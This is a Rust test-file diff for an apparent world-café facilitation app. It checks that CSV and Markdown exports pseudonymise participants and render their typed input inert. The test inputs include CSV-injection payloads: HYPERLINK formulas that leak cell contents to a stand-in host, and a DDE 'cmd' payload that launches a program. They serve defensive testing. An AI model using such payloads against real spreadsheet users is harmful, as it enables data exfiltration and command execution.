@@ -8,6 +8,7 @@ use flamingo_protocol::{
     Auth, CafeExport, Command, CreateCafeRequest, ErrorBody, ErrorCode, NoteId, RoundSpec,
 };
 use flamingo_tests::{TestClient, TestServer};
+use pulldown_cmark::{Event, Parser, Tag, TagEnd};
 
 const NAMES: [&str; 7] = [
     "Ada Lovelace",
@@ -287,6 +288,19 @@ async fn exports_hold_what_was_posted_and_only_the_facilitator_gets_them() {
             );
         }
         assert!(body.contains("Participant 1"), "{format} uses pseudonyms");
+        // Organisations and roles point at people too, unless the sponsor asked for them.
+        for org in ["Org A", "Org B", "Org, C", "nurse"] {
+            assert!(!body.contains(org), "{format} holds {org:?}");
+        }
+        let q = format!("?format={format}&authors=anonymousWithOrganisations");
+        let (status, _, with_orgs) = get(&server, &code, &q, Some(&key)).await;
+        assert_eq!(status, 200, "{with_orgs}");
+        // The report names organisations only; JSON and CSV have a role as well.
+        assert!(
+            with_orgs.contains("Org B") && (format == "markdown" || with_orgs.contains("nurse")),
+            "{format}"
+        );
+        assert!(!NAMES.iter().any(|n| with_orgs.contains(n)), "{format}");
     }
 
     // Only the facilitator exports; bad requests are typed and say what to do.
@@ -319,4 +333,157 @@ async fn exports_hold_what_was_posted_and_only_the_facilitator_gets_them() {
     }
     let (got, _, body) = get(&server, "ZZZZZZ", "?format=csv", Some(&key)).await;
     assert_eq!(got, 404, "{body}");
+}
+
+/// OWASP's starts of a cell a spreadsheet runs as a formula (a tab or carriage return cannot
+/// start what people type: the server trims it).
+const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];
+
+/// Who typed formulas and markup everywhere they could: title, question, name, organisation,
+/// role, note, theme. Every CSV cell comes back inert, and the Markdown report, rendered by a
+/// CommonMark renderer, shows their text as text, with no heading or HTML of theirs.
+#[tokio::test]
+async fn exports_that_cannot_hurt() {
+    let server = TestServer::start().await;
+    let formula =
+        |start: char, what: &str| format!("{start}HYPERLINK(\"http://x.test/?\"&A1,\"{what}\")");
+    let created = server
+        .create_cafe(&CreateCafeRequest {
+            title: formula('=', "title"),
+            table_size: Some(4),
+            tables: None,
+            rounds: vec![RoundSpec {
+                question: "+SUM(1)\u{2028}# Not a heading".into(),
+                minutes: 20,
+            }],
+        })
+        .await;
+    let (code, key) = (created.join_code.clone(), created.facilitator_key.clone());
+    let mut fac = TestClient::facilitator(&server, created.cafe_id, &key).await;
+    let mut phones = Vec::new();
+    for (i, start) in FORMULA_STARTS.iter().enumerate() {
+        phones.push(
+            TestClient::join(
+                &server,
+                Auth::Join {
+                    join_code: code.clone(),
+                    name: formula(*start, &format!("name{i}")),
+                    organisation: Some(formula(*start, "org")),
+                    role: Some(formula(*start, "role")),
+                    join_key: None,
+                },
+            )
+            .await,
+        );
+    }
+    fac.command(Command::StartRound).await.expect("start");
+    // A lone `\r` was a heading in a CommonMark renderer; `&lt;b&gt;` was bold.
+    let notes = [
+        "=1+2\r# heading from a carriage return\r===",
+        "+cmd|' /C calc'!A0",
+        "-2+3 &lt;b&gt;not bold&lt;/b&gt; & <i>not html</i>",
+        "@SUM(1+1)\r\n\u{2028}> not a quote\u{2029}- not a list",
+    ];
+    let mut note_ids = Vec::new();
+    for (p, text) in phones.iter_mut().zip(notes) {
+        let note_id = uuid::Uuid::new_v4();
+        p.command(Command::PostNote {
+            note_id,
+            text: text.into(),
+            round: None,
+        })
+        .await
+        .expect("note");
+        note_ids.push(note_id);
+    }
+    fac.command(Command::EndRound).await.expect("end");
+    fac.command(Command::OpenHarvest).await.expect("harvest");
+    fac.command(Command::CreateTheme {
+        theme_id: uuid::Uuid::new_v4(),
+        name: "@theme\u{2028}## sub".into(),
+        note_ids: note_ids.clone(),
+    })
+    .await
+    .expect("theme");
+
+    for authors in ["shown", "anonymous", "anonymousWithOrganisations"] {
+        let (status, _, body) = get(
+            &server,
+            &code,
+            &format!("?format=csv&authors={authors}"),
+            Some(&key),
+        )
+        .await;
+        assert_eq!(status, 200, "{body}");
+        let mut reader = csv::Reader::from_reader(body.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+        assert_eq!(rows.len(), notes.len());
+        for row in &rows {
+            for cell in row {
+                let first = cell.chars().next();
+                assert!(
+                    !first.is_some_and(|c| FORMULA_STARTS.contains(&c) || c == '\t' || c == '\r'),
+                    "{authors}: a cell a spreadsheet would run: {cell:?}"
+                );
+            }
+        }
+        let header: Vec<&str> = reader.headers().expect("header").iter().collect();
+        let col = |name: &str| header.iter().position(|h| *h == name).expect(name);
+        let texts: HashSet<&str> = rows.iter().map(|r| &r[col("text")]).collect();
+        let expected: HashSet<String> = notes.iter().map(|t| format!("'{t}")).collect();
+        assert_eq!(
+            texts,
+            expected.iter().map(String::as_str).collect(),
+            "{authors}: the text after the quote is as typed"
+        );
+    }
+
+    let (status, _, md) = get(&server, &code, "?format=markdown", Some(&key)).await;
+    assert_eq!(status, 200, "{md}");
+    let mut headings = Vec::new();
+    let mut heading: Option<String> = None;
+    let mut shown = String::new();
+    for event in Parser::new(&md) {
+        match event {
+            Event::Start(Tag::Heading { level, .. }) => heading = Some(format!("{level:?} ")),
+            Event::End(TagEnd::Heading(_)) => headings.extend(heading.take()),
+            Event::Text(t) | Event::Code(t) => {
+                if let Some(h) = heading.as_mut() {
+                    h.push_str(&t);
+                }
+                shown.push_str(&t);
+            }
+            Event::SoftBreak | Event::HardBreak => shown.push('\n'),
+            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the report: {h}\n{md}"),
+            Event::Start(Tag::BlockQuote(_) | Tag::CodeBlock(_) | Tag::Link { .. }) => {
+                panic!("a quote, code block or link from someone's text:\n{md}")
+            }
+            _ => {}
+        }
+    }
+    // Every heading is the report's own; the words people typed stay inside them as text.
+    let levels: Vec<&str> = headings
+        .iter()
+        .map(|h| h.split(' ').next().unwrap_or(""))
+        .collect();
+    assert_eq!(
+        levels,
+        ["H1", "H2", "H2", "H3", "H4", "H3", "H3", "H2", "H3", "H2"],
+        "{headings:#?}"
+    );
+    assert_eq!(headings[0], format!("H1 {}", formula('=', "title")));
+    assert!(
+        headings
+            .iter()
+            .all(|h| !h.contains("heading from") && !h.starts_with("H2 sub"))
+    );
+    for text in notes {
+        for line in text
+            .split(['\r', '\n', '\u{2028}', '\u{2029}'])
+            .filter(|l| !l.is_empty())
+        {
+            assert!(shown.contains(line), "{line:?} is not shown as text:\n{md}");
+        }
+    }
+    assert!(shown.contains("&lt;b&gt;not bold&lt;/b&gt; & <i>not html</i>"));
 }
